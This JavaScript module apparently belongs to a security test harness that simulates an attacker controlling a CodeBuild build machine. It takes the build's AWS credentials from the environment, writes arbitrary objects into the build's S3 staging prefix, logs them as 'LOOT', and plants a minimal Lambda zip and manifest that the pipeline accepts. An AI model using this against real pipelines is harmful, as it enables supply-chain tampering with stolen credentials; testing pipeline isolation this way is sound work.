// What an attacker needs who has the whole build machine: its credentials, its prefix, and to store there whatever he likes.
import { readFileSync } from 'node:fs';
import { call, keyPath } from './aws.mjs';
import { file, zip } from './zip.mjs';

export const target = JSON.parse(readFileSync(new URL('./target.json', import.meta.url), 'utf8'));
export const credentials = { accessKeyId: process.env.AWS_ACCESS_KEY_ID, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY, sessionToken: process.env.AWS_SESSION_TOKEN };
export const own = `staging/${process.env.CODEBUILD_BUILD_ARN}/`;

export async function store(name, body = 'by the attacker') {
  const { answer } = await call({ service: 's3', endpoint: target.endpoints.s3, method: 'PUT', path: keyPath(target.bucket, own + name), body }, credentials);
  console.log(`LOOT ${JSON.stringify({ as: 'build', what: `store ${name.slice(0, 100)}`, answer })}`);
}

/** The least that is accepted. */
export async function storeComplete(manifest = '{"version":1}') {
  await store('artifacts/lambda.zip', zip([file('index.mjs', 'export const handler = async () => ({ statusCode: 200 });')]));
  await store('artifacts/open-next.output.json', '{}');
  await store('artifacts/manifest.json', manifest);
}
